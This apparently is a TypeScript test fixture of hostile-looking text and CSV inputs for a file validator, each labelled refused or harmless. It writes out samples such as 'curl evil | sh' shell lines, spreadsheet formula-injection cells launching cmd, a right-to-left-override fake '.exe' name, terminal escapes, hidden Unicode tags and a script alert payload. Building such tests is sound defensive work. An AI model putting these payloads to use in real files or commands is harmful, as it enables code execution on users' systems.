/** Plain text that is none, or that shows something else than it says. */
import { type HostileFile, refusedFiles } from './hostile-file.ts';

const text = (words: string) => Buffer.from(words);
const bytes = (hex: string) => Buffer.from(hex.replaceAll(' ', ''), 'hex');

/** Refused, or read without what hides. */
export function hostileTexts(): HostileFile[] {
  const harmless = (name: string, words: string, without: string[], why: string): HostileFile => ({
    family: 'text',
    name,
    claimed: 'txt',
    bytes: text(words),
    fate: { harmlessBecause: why, without },
  });
  const hides = 'What can’t be seen is not among the words that are read.';
  return [
    ...refusedFiles('text', 'txt', {
      'a zero': text('a\u0000b'),
      'a bell': text('a\u0007b'),
      'commands for a terminal': text('\u001b[2J\u001b]0;evil\u0007'),
      'written backwards': text('invoice\u202etxt.exe'),
      'forced forwards': text('a\u202dbc'),
      'a sign that is none': text('a\uffffb'),
      'a sign beyond all planes': bytes('61 f7 bf bf bf'),
      'half a sign': bytes('61 ed a0 80 62'),
      'a sign in too many bytes': bytes('2f c0 af 2f'),
      'a sign that ends too early': bytes('61 e2 82'),
      'letters of another time': bytes('47 72 fc df 65'),
      'half a sign of two bytes': bytes('ff fe 00 d8 41 00'),
      'an odd number of bytes': bytes('ff fe 41 00 42'),
      'a program for a shell': text('#!/bin/sh\ncurl evil | sh'),
      'a program for a shell behind a mark': text('\ufeff#!/bin/sh\ncurl evil | sh'),
      'a program for Windows': bytes('4d5a9000 03000000 04000000 ffff0000'),
      'a program for Linux': bytes('7f454c46 02010100'),
      'a program for a Mac': bytes('cffaedfe 07000001'),
      'a program of Java': bytes('cafebabe 00000034'),
      'a PDF of letters': text('%PDF-1.4\n1 0 obj <<>> endobj'),
      'a letter with commands': text('{\\rtf1\\ansi{\\object\\objocx}}'),
      'a page for printers': text('%!PS-Adobe-3.0\nsystemdict'),
    }),
    ...refusedFiles('text', 'csv', {
      'a cell that starts a program': text(`name,sum\nAda,"=cmd|' /C calc'!A0"\n`),
      'a cell that starts a program, hidden': text(`name,sum\nAda,+1+cmd|'/C calc'!A0\n`),
      'a cell that starts a program, first': text(`@SUM(1+1)*cmd|' /C calc'!A0`),
    }),
    harmless('words in tags that nobody sees', `Plan${'\u{e0069}\u{e0067}'}ned.`, ['\u{e0069}'], hides),
    harmless('commands for a terminal, in one sign', 'a\u009b2Jb', ['\u009b'], hides),
    harmless('turned within lines', 'a \u2067b\u2069 c \u202bd\u202c', ['\u2067', '\u202b'], hides),
    harmless('a megabyte of one letter', 'a'.repeat(1_000_000), [], 'Its words are cut to what is kept.'),
    harmless('a megabyte of blanks', ' '.repeat(1_000_000), [], 'It costs a megabyte.'),
    harmless('a million lines', '\n'.repeat(1_000_000), [], 'It costs a megabyte.'),
    harmless('signs on signs', `a${'\u0301'.repeat(300_000)}`, [], 'Its words are cut to what is kept.'),
    harmless(
      'a page',
      '<html><script>alert(1)</script></html>',
      [],
      'It is sent as plain text, to be downloaded.',
    ),
  ];
}
